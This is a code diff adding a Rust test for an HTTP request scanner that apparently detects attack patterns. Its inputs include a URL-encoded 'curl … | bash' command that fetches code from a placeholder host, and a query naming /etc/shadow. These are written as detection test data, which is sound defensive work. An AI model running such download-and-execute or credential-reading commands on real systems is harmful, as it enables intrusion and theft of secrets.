@@ -98,6 +98,23 @@ impl Seen {
     }
 }
 
+#[test]
+fn a_query_is_read_as_a_form_and_a_path_is_not() {
+    let scanner = scanner(SCAN_WINDOW_MAX_BYTES);
+    let told = |head: &str| {
+        let (mut seen, mut buffer) = (Seen::default(), PaddedBuffer::new());
+        scanner.scan_request(buffer.fill(head.as_bytes()), &mut seen);
+        (seen.names(), seen.views().iter().map(ToString::to_string).collect::<Vec<_>>())
+    };
+    let command = "curl+http%3A%2F%2Fe.example%2Fx+%7C+bash";
+    let (names, views) = told(&format!("GET http://a.example/?c={command} HTTP/1.1\r\n\r\n"));
+    assert_eq!((names, views), (vec!["pipe_to_shell"], vec!["form".to_owned()]));
+    assert_eq!(told(&format!("GET /{command} HTTP/1.1\r\n\r\n")).0, [""; 0]);
+    // What is seen as it stands is not told a second time.
+    let (names, views) = told("GET /?a=b+c&f=/etc/shadow HTTP/1.1\r\n\r\n");
+    assert_eq!((names, views.len()), (vec!["unix_sensitive"], 1));
+}
+
 /// Scans pieces as one stream.
 pub(super) fn scan_pieces(scanner: &Scanner, pieces: &[&[u8]]) -> Seen {
     let mut seen = Seen::default();
